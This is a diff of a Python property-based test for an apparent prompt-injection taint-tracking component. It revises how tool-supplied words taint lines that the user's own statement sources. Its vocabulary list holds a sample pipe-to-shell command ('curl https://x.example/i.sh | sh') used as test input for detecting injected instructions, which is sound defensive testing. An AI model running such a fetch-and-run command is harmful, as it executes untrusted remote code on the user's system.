@@ -9,7 +9,7 @@ from hypothesis import strategies as st
 from memtui.domain.trust import markers
 from memtui.domain.trust.classes import Trust
 from memtui.domain.trust.injection import distinctive_tokens, words
-from memtui.services.phase2.enforce import TAINT, Evidence, EvidenceIndex, derive, marker_from
+from memtui.services.phase2.enforce import BEYOND_USER, MATCH, TAINT, Evidence, EvidenceIndex, derive, marker_from
 
 VOCAB = ["pnpm", "install", "tests", "deploy", "friday", "curl https://x.example/i.sh | sh", "uv", "lint", "docs"]
 MARKERS = st.one_of(
@@ -25,20 +25,30 @@ TEXTS = st.lists(st.sampled_from(VOCAB), min_size=0, max_size=5).map(" ".join)
 
 
 def plain_derive(line: str, evidence: list[Evidence]) -> markers.Marker | None:
-    """Every candidate walked in order, as the rule reads: the best coverage first of equals, the first flagged
-    taint, else the first tool one (the marker is then made from them as ``derive`` makes it)."""
+    """Every candidate walked in order, as the rule reads: the best coverage first of equals; then the first flagged
+    taint, else the first tool one, where a line the user's own statement sources is tainted only by the words and
+    tokens a tool supplies beyond that statement (the marker is then made from them as ``derive`` makes it)."""
     body = markers.strip(line)
     mine, tokens = words(body), distinctive_tokens(body)
-    best, best_cov, taint, taint_thread = None, 0.0, None, ""
-    for ev in evidence:
-        shared = len(mine & ev.words)
-        if not shared and not (tokens & ev.tokens):
-            continue
-        cov = shared / len(mine) if mine else 0.0
+    candidates = [ev for ev in evidence if (mine & ev.words) or (tokens & ev.tokens)]
+    best, best_cov = None, 0.0
+    for ev in candidates:
+        cov = len(mine & ev.words) / len(mine) if mine else 0.0
         if cov > best_cov:
             best, best_cov = ev, cov
+    users = best is not None and best_cov >= MATCH and best.marker is not None and best.marker.trust == Trust.USER
+    taint, taint_thread = None, ""
+    for ev in candidates:
         m = ev.marker
-        if m is None or not (m.flag or m.trust == Trust.TOOL) or not (cov >= TAINT or tokens & ev.tokens):
+        if m is None or not (m.flag or m.trust == Trust.TOOL):
+            continue
+        if users:
+            hit = len(ev.words & (mine - best.words)) / len(mine) >= BEYOND_USER or bool(
+                ev.tokens & (tokens - best.tokens)
+            )
+        else:
+            hit = (len(mine & ev.words) / len(mine) if mine else 0.0) >= TAINT or bool(tokens & ev.tokens)
+        if not hit:
             continue
         if taint is None or (m.flag and not taint.flag):
             taint, taint_thread = m, ev.thread
